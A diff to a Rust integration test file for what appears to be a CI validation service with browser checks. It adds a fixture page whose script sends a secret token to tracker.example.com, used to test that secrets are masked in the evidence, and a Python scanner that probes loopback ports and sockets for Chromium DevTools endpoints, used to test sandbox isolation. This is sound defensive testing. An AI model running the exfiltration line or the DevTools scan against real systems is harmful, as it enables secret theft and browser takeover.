@@ -3,7 +3,7 @@
 
 use reqwest::Method;
 use serde_json::{json, Value};
-use slipway_testkit::{fixture_repo, Body, TestApp};
+use slipway_testkit::{fixture_repo, processes_with, Body, TestApp};
 
 /// A small web app: a page with a login form, one with a JavaScript error, one whose API
 /// call answers 500, one that loads a script from another host, and one that never settles.
@@ -19,6 +19,18 @@ PAGES = {
 class H(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         path = self.path.split("?")[0]
+        if path == "/secret":
+            token = os.environ.get("PAGE_TOKEN", "")
+            body = ("<title>token %s</title><p id='s'>%s</p><p>token shown</p><script>"
+                    "const t = document.getElementById('s').textContent; console.error('leaked ' + t);"
+                    "fetch('http://tracker.example.com/t?k=' + encodeURIComponent(t));</script>") % (token, token)
+            data = body.encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+            return
         if path == "/never":
             time.sleep(600)
         if path == "/welcome":
@@ -76,6 +88,9 @@ name = "missing text"
 path = "/"
 expect_selector = "#cart"
 "##;
+
+/// In the command line of the ui step's browser (or its sandbox): its profile's name.
+const BROWSER: &str = "slipway-browser-profile";
 
 /// A project on a repository holding the fixture app and `pipeline` as its .slipway.toml.
 async fn web_project(app: &TestApp, pipeline: &str) -> i64 {
@@ -235,11 +250,7 @@ async fn browser_checks_give_their_verdicts_with_the_evidence() {
         )
         .await;
     assert_eq!(sneaky.status, 404);
-    assert_eq!(
-        slipway_testkit::processes_with("--user-data-dir=/tmp/slipway-browser"),
-        0,
-        "no browser left"
-    );
+    assert_eq!(processes_with(BROWSER), 0, "no browser left");
 }
 
 fn login_shot(reports: &[Value]) -> String {
@@ -282,26 +293,17 @@ async fn cancelling_mid_check_leaves_no_browser_behind() {
     let id = started.body["id"].as_i64().unwrap();
     for _ in 0..400 {
         let record = app.api.validation(id).await.body;
-        if record["steps"][5]["status"] == "running"
-            && slipway_testkit::processes_with("--user-data-dir=/tmp/slipway-browser") > 0
-        {
+        if record["steps"][5]["status"] == "running" && processes_with(BROWSER) > 0 {
             break;
         }
         tokio::time::sleep(std::time::Duration::from_millis(50)).await;
     }
-    assert!(
-        slipway_testkit::processes_with("--user-data-dir=/tmp/slipway-browser") > 0,
-        "the browser runs"
-    );
+    assert!(processes_with(BROWSER) > 0, "the browser runs");
     tokio::time::sleep(std::time::Duration::from_millis(500)).await;
     app.api.cancel_validation(id).await;
     let done = app.api.finished_validation(id).await;
     assert_eq!(done["status"], "cancelled", "{done}");
-    assert_eq!(
-        slipway_testkit::processes_with("--user-data-dir=/tmp/slipway-browser"),
-        0,
-        "no browser left"
-    );
+    assert_eq!(processes_with(BROWSER), 0, "no browser left");
 }
 
 #[tokio::test]
@@ -350,37 +352,188 @@ async fn a_page_that_never_settles_fails_at_the_check_timeout() {
     );
 }
 
-/// The browser starts with the deploy step, so it boots while the service starts and the
-/// tests run; when a step before the ui step fails, it is stopped with the rest.
+/// What PR code would try to take over the browser that judges it: every port of the cell's
+/// loopback (IPv4 and IPv6) and every abstract socket, each asked for DevTools' version. As a
+/// control it first starts a Chromium of its own with a DevTools port, which it must find;
+/// it exits 0 when that is all it finds, 3 when it finds another, 4 when not even its own.
+const SCAN: &str = r#"import os, socket, subprocess, sys, time
+def devtools(sock):
+    try:
+        sock.settimeout(1.0)
+        sock.sendall(b"GET /json/version HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+        data = b""
+        while len(data) < 65536:
+            chunk = sock.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+            if b"webSocketDebuggerUrl" in data:
+                return True
+    except OSError:
+        pass
+    finally:
+        sock.close()
+    return False
+def scan():
+    found = []
+    for family, host in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
+        for port in range(1, 65536):
+            s = socket.socket(family, socket.SOCK_STREAM)
+            s.settimeout(0.5)
+            try:
+                s.connect((host, port))
+            except OSError:
+                s.close()
+                continue
+            if devtools(s):
+                found.append("%s:%d" % (host, port))
+    for line in open("/proc/net/unix").readlines()[1:]:
+        fields = line.split()
+        if len(fields) >= 8 and fields[7].startswith("@"):
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            try:
+                s.connect("\0" + fields[7][1:])
+            except OSError:
+                s.close()
+                continue
+            if devtools(s):
+                found.append(fields[7])
+    return found
+own = 47123
+subprocess.Popen([sys.argv[1], "--headless=new", "--no-sandbox", "--disable-gpu",
+    "--user-data-dir=/tmp/pr-chrome", "--remote-debugging-port=%d" % own, "about:blank"],
+    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+for _ in range(400):
+    try:
+        if devtools(socket.create_connection(("127.0.0.1", own), 1)):
+            break
+    except OSError:
+        time.sleep(0.05)
+found = scan()
+print("DevTools endpoints found:", found)
+expected = ["127.0.0.1:%d" % own]
+sys.exit(0 if found == expected else (4 if expected[0] not in found else 3))
+"#;
+
+/// The browser starts with the deploy step (it boots while the service starts and the tests
+/// run), out of PR code's reach: a test step that scans the cell for a DevTools endpoint
+/// while the browser runs finds none but its own. When a step before the ui step fails, the
+/// browser is stopped with the rest.
 #[tokio::test]
-async fn the_browser_starts_while_the_tests_run_and_stops_when_an_earlier_step_fails() {
+async fn pr_code_finds_no_devtools_of_the_browser_that_checks_it() {
     let app = TestApp::spawn().await;
-    // The test step waits until something besides the service listens in the cell (the
-    // browser's DevTools; each command has its own PID namespace, so it cannot see the
-    // process), at most 20 s, then passes or fails.
-    let test = "python3 -c 'import os,sys,time\nfor _ in range(200):\n    for l in open(\"/proc/net/tcp\").readlines()[1:]:\n        f = l.split()\n        if f[3] == \"0A\" and int(f[1].split(\":\")[1], 16) != int(os.environ[\"PORT\"]): sys.exit($FAIL)\n    time.sleep(0.1)\nsys.exit(7)'";
-    for (fail, expected) in [("0", "passed"), ("1", "failed")] {
+    let chromium = slipway_browser::chromium().unwrap();
+    let scan = format!("python3 scan.py {}", chromium.display());
+    for (test, expected) in [(scan.as_str(), "passed"), ("exit 1", "failed")] {
         let pipeline = format!(
-            "[service]\nstart = \"python3 app.py\"\n[test]\ncommands = [{:?}]\n\
-             [[ui.checks]]\nname = \"home\"\npath = \"/\"\nexpect_text = \"Todos\"\n",
-            test.replace("$FAIL", fail)
+            "[service]\nstart = \"python3 app.py\"\n[test]\ncommands = [{test:?}]\n\
+             [[ui.checks]]\nname = \"home\"\npath = \"/\"\nexpect_text = \"Todos\"\n"
         );
-        let project = web_project(&app, &pipeline).await;
-        let done = app.api.validated(project, &json!({"branch": "main"})).await;
+        let repo = app.data_dir.path().join(format!("web-{expected}"));
+        fixture_repo(
+            &repo,
+            &[
+                ("app.py", APP),
+                ("scan.py", SCAN),
+                (".slipway.toml", &pipeline),
+            ],
+        );
+        let project = app
+            .api
+            .create_project(&json!({"name": expected, "repo": repo.display().to_string()}))
+            .await
+            .body["id"]
+            .as_i64()
+            .unwrap();
+        let id = app
+            .api
+            .start_validation(project, &json!({"branch": "main"}))
+            .await
+            .body["id"]
+            .as_i64()
+            .unwrap();
+        // The browser runs while the test step does (so the scan had something to find).
+        let mut browser_during_tests = false;
+        let done = loop {
+            let record = app.api.validation(id).await.body;
+            if record["steps"][4]["status"] == "running" && processes_with(BROWSER) > 0 {
+                browser_during_tests = true;
+            }
+            if !matches!(record["status"].as_str(), Some("queued" | "running")) {
+                break record;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        };
         assert_eq!(done["status"], expected, "{done}");
-        // Exit 7 would mean the test step never saw the browser.
         let test_step = &done["steps"][4];
         assert_eq!(test_step["name"], "test");
-        assert_eq!(test_step["status"], expected, "{done}");
-        assert_ne!(
-            test_step["exit_code"], 7,
-            "the browser ran during the tests: {done}"
-        );
-        assert_eq!(
-            slipway_testkit::processes_with("--user-data-dir=/tmp/slipway-browser"),
-            0,
-            "no browser left"
-        );
+        if expected == "passed" {
+            let log = app.api.validation_logs(id, "step=test").await.text;
+            assert_eq!(test_step["status"], "passed", "{done}\n{log}");
+            // The scan ran, and found the control only.
+            assert!(
+                log.contains("DevTools endpoints found: ['127.0.0.1:47123']"),
+                "{log}"
+            );
+            assert!(browser_during_tests, "the browser ran during the scan");
+            assert_eq!(done["steps"][5]["status"], "passed", "{done}");
+        }
+        assert_eq!(processes_with(BROWSER), 0, "no browser left");
         app.api.delete_project(project).await;
+    }
+}
+
+/// What the browser saw is masked like the log: a page that shows a project's secret (with a
+/// quote and a backslash, which JSON escapes) in its title, text, console and a request.
+#[tokio::test]
+async fn browser_evidence_is_masked_like_the_log() {
+    let app = TestApp::spawn().await;
+    let secret = r#"pa"ss\9f2b-c41e-77d0"#;
+    let pipeline = "[service]\nstart = \"python3 app.py\"\n[[ui.checks]]\nname = \"secret\"\n\
+                    path = \"/secret\"\nexpect_text = \"token shown\"\nmax_console_errors = 5\n";
+    let project = web_project(&app, pipeline).await;
+    let put = app.api.put_secret(project, "PAGE_TOKEN", secret).await;
+    assert!(put.status.is_success(), "{}", put.text);
+    let done = app.api.validated(project, &json!({"branch": "main"})).await;
+    assert_eq!(done["status"], "passed", "{done}");
+    let reports = evidence(&app, id_of(&done)).await;
+    let found = report(&reports, "secret", "1280x800");
+    // The page did show it: masked where it was.
+    assert_eq!(found["title"], "token ***", "{found:#}");
+    assert!(found["text"].as_str().unwrap().contains("***"), "{found:#}");
+    let mut strings = Vec::new();
+    for report in &reports {
+        every_string(report, &mut strings);
+    }
+    let encoded = secret.replace('"', "%22").replace('\\', "%5C");
+    assert!(
+        strings.iter().any(|s| s.contains("leaked ***")),
+        "{strings:#?}"
+    );
+    assert!(
+        strings.iter().any(|s| s.ends_with("t?k=***")),
+        "{strings:#?}"
+    );
+    for string in &strings {
+        assert!(!string.contains("9f2b-c41e"), "{string}");
+        assert!(!string.contains(&encoded), "{string}");
+    }
+    let log = app.api.validation_logs(id_of(&done), "step=ui").await.text;
+    assert!(!log.contains("9f2b-c41e"), "{log}");
+}
+
+fn id_of(validation: &Value) -> i64 {
+    validation["id"].as_i64().unwrap()
+}
+
+fn every_string(value: &Value, out: &mut Vec<String>) {
+    match value {
+        Value::String(text) => out.push(text.clone()),
+        Value::Array(items) => items.iter().for_each(|v| every_string(v, out)),
+        Value::Object(map) => map.iter().for_each(|(k, v)| {
+            out.push(k.clone());
+            every_string(v, out)
+        }),
+        _ => {}
     }
 }
